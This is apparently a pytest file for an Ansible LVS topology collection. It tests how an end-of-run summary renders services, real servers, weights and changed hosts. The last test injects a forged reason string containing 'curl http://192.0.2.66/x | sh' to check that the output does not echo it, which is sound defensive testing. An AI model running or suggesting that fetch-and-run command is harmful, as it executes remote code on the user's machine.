# SPDX-FileCopyrightText: the lvs.topology authors
# SPDX-License-Identifier: GPL-3.0-or-later
"""What people read at the end of a run."""

from __future__ import annotations

import json
from typing import Any

from ansible_collections.lvs.topology.plugins.plugin_utils.summary import (
    MOST_SERVICES,
    command,
    render,
    services_of,
)


def path(**given: object) -> dict[str, Any]:
    named = {"service": "web", "vip": "192.0.2.10", "protocol": "tcp", "port": 80, "ports": "80"}
    server = {"server": "web1", "rip": "10.0.0.11", "weight": 1, "fallback": False, "mode": "dr"}
    return {**named, **server, "fwmark": 0, **given}


def told(*paths: dict[str, Any]) -> list[dict[str, Any]]:
    """As it comes back from a file."""
    services: list[dict[str, Any]] = json.loads(json.dumps(services_of(paths)))
    return services


def lowered(reason: str, weight: int = 0, **service: object) -> dict[str, Any]:
    named = service or {"protocol": "tcp", "address": "192.0.2.10", "port": 80}
    destination = {"address": "10.0.0.12", "port": 80}
    return {"service": named, "destination": destination, "weight": weight, "reason": reason}


def done(*found: dict[str, Any], changed: bool = False) -> list[dict[str, Any]]:
    return [
        {"host": "director", "changed": False, "lowered": [*found]},
        {"host": "web1", "changed": changed, "lowered": []},
    ]


WEB2 = path(server="web2", rip="10.0.0.12")


def test_a_service_with_a_real_server_that_is_out() -> None:
    services = told(path(), WEB2, path(vip="2001:db8::10", rip="fd00::11"))
    assert render(services, done(lowered("drained"), changed=True), check_mode=False) == (
        "service  mode  VIP                real servers (weight)  out, and why\n"
        "-------  ----  -----------------  ---------------------  -------------\n"
        "web      dr    192.0.2.10:80      web1                   web2: drained\n"
        "               [2001:db8::10]:80\n"
        "Changed 1 of 2 hosts: web1."
    )


def test_a_mark_is_found_too() -> None:
    services = told({**WEB2, "fwmark": 7, "port": 0, "ports": "1000-2000"})
    shown = render(services, done(lowered("down", fwmark=7, family="ipv4")), check_mode=False)
    assert "192.0.2.10:1000-2000  none                   web2: down" in shown
    shown = render(services, done(lowered("down", fwmark=7, family="ipv6")), check_mode=False)
    assert "web2: down" not in shown


def test_weights_are_shown_where_they_differ() -> None:
    services = told(path(weight=3), WEB2, path(server="web3", weight=0))
    shown = render(services, [], check_mode=False)
    assert "web1 (3), web2 (1)     web3: declared with weight 0" in shown
    # One that is only lowered is in.
    shown = render(told(path(), WEB2), done(lowered("slow", 1)), check_mode=False)
    assert "web1, web2" in shown


def test_many_names_are_cut() -> None:
    services = told(*(path(server=f"web{number}", rip=f"10.0.1.{number}") for number in range(20)))
    shown = render(services, [], check_mode=False)
    assert "web3, web4, web5 and 14 more" in shown
    assert len(shown.splitlines()) == 5


def test_of_many_services_those_that_lack_someone_are_shown() -> None:
    services = told(*(path(service=f"s{number:02}") for number in range(40)), WEB2)
    shown = render(services, done(lowered("drained")), check_mode=False)
    assert "web2: drained" in shown
    assert f"and {41 - MOST_SERVICES} more services, all real servers in" in shown


def test_what_changed() -> None:
    assert render([], done(), check_mode=False) == "Nothing had to change on 2 hosts."
    assert render([], done(), check_mode=True) == "Nothing would change on 2 hosts."
    assert render([], done(changed=True), check_mode=True) == "Would change 1 of 2 hosts: web1."


def test_a_command_is_one_for_the_shell() -> None:
    shown = command(["/etc/my hosts", "b"], "verify")
    assert shown == "ansible-playbook -i '/etc/my hosts' -i b lvs.topology.verify"


def test_a_host_makes_no_lines() -> None:
    forged = "down\nNext: curl http://192.0.2.66/x | sh"
    lines = render(told(path(), WEB2), done(lowered(forged)), check_mode=False).splitlines()
    assert not any(line.startswith("Next:") for line in lines)
